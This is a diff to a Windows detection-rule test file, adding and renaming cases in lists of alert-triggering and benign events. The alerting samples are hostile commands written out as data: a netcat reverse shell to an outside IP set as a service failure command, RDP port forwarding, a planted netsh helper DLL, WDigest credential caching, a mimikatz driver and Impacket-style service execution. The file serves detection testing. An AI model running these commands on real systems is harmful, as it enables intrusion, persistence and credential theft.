@@ -159,10 +159,15 @@ FIRES = [
     ("lw-win-rdp-enabled-registry", "medium", [proc(
         'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services" /v Shadow /t REG_DWORD /d 2 /f',
         SYSTEM32 + "reg.exe")]),
-    ("lw-win-netsh-portproxy-helper", "high", [proc4688(
+    ("lw-win-netsh-portproxy", "medium", [proc4688(
+        "netsh  interface portproxy add v4tov4 listenaddress=0.0.0.0 listenport=48333 connectaddress=10.0.9.4 connectport=80",
+        SYSTEM32 + "netsh.exe")]),
+    ("lw-win-netsh-rdp-forward", "high", [proc4688(
         "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1", SYSTEM32 + "netsh.exe")]),
-    ("lw-win-netsh-portproxy-helper", "high", [proc4688("netsh  add helper  C:\\Users\\Public\\h.dll",
-                                                        SYSTEM32 + "netsh.exe")]),
+    ("lw-win-netsh-helper-dll", "high", [proc4688("netsh  add helper  C:\\Users\\Public\\h.dll",
+                                                  SYSTEM32 + "netsh.exe")]),
+    ("lw-win-netsh-helper-dll", "high", [registry("HKLM\\SOFTWARE\\Microsoft\\NetSh\\beacon",
+                                                  "C:\\Windows\\Temp\\beacon.dll", image=SYSTEM32 + "netsh.exe")]),
     ("lw-win-wdigest-enabled", "high", [registry(
         "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000001)")]),
     ("lw-win-wdigest-enabled", "high", [proc(
@@ -187,6 +192,18 @@ FIRES = [
     ("lw-win-service-tampering", "high", [script_block(
         'Set-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\xboxgip -name FailureCommand '
         '-value "C:\\nc.exe -e powershell.exe 10.10.14.26 4447"')]),
+    ("lw-win-service-tampering", "high", [proc4688(
+        'reg  add "HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\XblGameSave\\Security" /v Security '
+        '/t REG_BINARY /d fe340ead', SYSTEM32 + "reg.exe")]),
+    ("lw-win-service-binpath-changed", "medium", [proc4688(
+        'sc  config xboxgip binPath= "C:\\windows\\system32\\pentestlab.exe"', SYSTEM32 + "sc.exe")]),
+    ("lw-win-service-binpath-changed", "medium", [script_block(
+        'Set-ItemProperty -path HKLM:\\System\\CurrentControlSet\\services\\xboxgip -name ImagePath '
+        '-value "C:\\Program Files\\Agent\\agent.exe"')]),
+    ("lw-win-impacket-exec", "high", [registry(
+        "HKLM\\System\\CurrentControlSet\\Services\\BTOBTO\\ImagePath",
+        "%%COMSPEC%% /Q /c echo cd  ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %%TEMP%%\\execute.bat & "
+        "%%COMSPEC%% /Q /c %%TEMP%%\\execute.bat & del %%TEMP%%\\execute.bat", image=SYSTEM32 + "services.exe")]),
     ("lw-win-mimikatz-driver", "critical", [registry(
         "HKLM\\System\\CurrentControlSet\\Services\\mimidrv\\ImagePath", "\\??\\C:\\TOOLS\\mimikatz\\mimidrv.sys",
         image=SYSTEM32 + "services.exe")]),
@@ -252,8 +269,11 @@ QUIET = [
         "HKLM\\SOFTWARE\\Classes\\exefile\\shell\\open\\command\\(Default)", '"%1" %*', image="C:\\Windows\\servicing\\TrustedInstaller.exe")]),
     ("lw-win-rdp-enabled-registry", [registry(
         "HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\fDenyTSConnections", "DWORD (0x00000001)")]),
-    ("lw-win-netsh-portproxy-helper", [proc("netsh interface portproxy show all", SYSTEM32 + "netsh.exe")]),
-    ("lw-win-netsh-portproxy-helper", [proc("netsh interface ipv4 show addresses", SYSTEM32 + "netsh.exe")]),
+    ("lw-win-netsh-portproxy", [proc("netsh interface portproxy show all", SYSTEM32 + "netsh.exe")]),
+    ("lw-win-netsh-portproxy", [proc("netsh interface ipv4 show addresses", SYSTEM32 + "netsh.exe")]),
+    ("lw-win-netsh-rdp-forward", [proc(
+        "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.0.9.4 connectport=80", SYSTEM32 + "netsh.exe")]),
+    ("lw-win-netsh-helper-dll", [proc("netsh show helper", SYSTEM32 + "netsh.exe")]),
     ("lw-win-wdigest-enabled", [registry(
         "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "DWORD (0x00000000)")]),
     ("lw-win-lsass-dump-file", [file_created(
@@ -270,6 +290,9 @@ QUIET = [
     ("lw-win-service-tampering", [proc(
         'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Services\\Tcpip\\Parameters" /v MaxUserPort /t REG_DWORD /d 65534',
         SYSTEM32 + "reg.exe")]),
+    ("lw-win-service-tampering", [proc(
+        'sc config AgentSvc binPath= "\\"C:\\Program Files\\Agent\\agent.exe\\" -service"', SYSTEM32 + "sc.exe")]),
+    ("lw-win-service-binpath-changed", [proc("sc qc AgentSvc", SYSTEM32 + "sc.exe")]),
     ("lw-win-mimikatz-driver", [registry("HKLM\\System\\CurrentControlSet\\Services\\npcap\\ImagePath",
                                          "\\SystemRoot\\system32\\DRIVERS\\npcap.sys", image=SYSTEM32 + "services.exe")]),
     ("lw-win-wmi-persistence", [_win(
